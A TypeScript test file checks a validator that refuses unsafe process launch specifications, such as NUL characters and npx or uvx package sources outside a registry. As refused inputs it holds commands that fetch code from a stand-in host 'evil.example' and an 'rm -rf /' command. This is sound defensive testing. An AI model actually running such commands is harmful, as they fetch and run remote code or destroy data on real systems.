import { describe, expect, it } from 'vitest'
import type { ProcessSpec } from '../model.ts'
import { launchFault } from './launch-fault.ts'

const spec = (change: Partial<ProcessSpec>): ProcessSpec => ({
  kind: 'process',
  command: 'node',
  args: ['server.js'],
  env: {},
  cwd: null,
  files: [],
  egress: [],
  isolation: 'medium',
  ...change,
})

describe('a launch specification', () => {
  it.each([
    ['command', null, { command: 'no\0de' }],
    ['args', 1, { args: ['fine', 'a\0b'] }],
    ['cwd', null, { cwd: '/srv\0/x' }],
    ['files', 0, { files: [{ path: '/a\0', mode: 'ro' }] }],
  ] as const)('with a NUL character in %s is refused there', (part, at, change) => {
    expect(launchFault(spec(change))).toMatchObject({ part, at, detail: expect.stringMatching(/ holds a NUL character\.$/) as string })
  })

  it.each([
    ['npx', ['https://evil.example/x.tgz'], 'is not a package of a registry'],
    ['npx', ['-y', 'github:some/body'], 'is not a package of a registry'],
    ['/usr/bin/npx', ['-c', 'rm -rf /'], 'npx -c is not supported here'],
    ['npx', ['--package=../folder', 'x'], 'is not a package of a registry'],
    ['uvx', ['--from', 'git+https://evil.example/x', 'x'], 'is not a package of a registry'],
    ['uvx', ['--index-url=https://evil.example', 'x'], 'is not supported here'],
    ['uvx', [], 'uvx needs a package'],
  ])('%s %j is refused with the reason and what to write', (command, args, why) => {
    const fault = launchFault(spec({ command, args }))
    expect(fault).toMatchObject({ part: 'args', at: null, detail: expect.stringContaining(why) as string })
    expect(fault?.remedy).not.toBe('')
  })

  it.each([
    ['npx', ['-y', '@modelcontextprotocol/server-everything@1.2.3', '--flag', 'git+ssh://an/argument/of/the/server']],
    ['npx', ['-y', 'server-${input:which}']],
    ['uvx', ['--from', 'mcp-server-git==1.0', 'mcp-server-git', '--repository', '/srv']],
    ['sh', ['-c', 'anything']],
  ])('%s %j may be started', (command, args) => {
    expect(launchFault(spec({ command, args }))).toBeNull()
  })
})
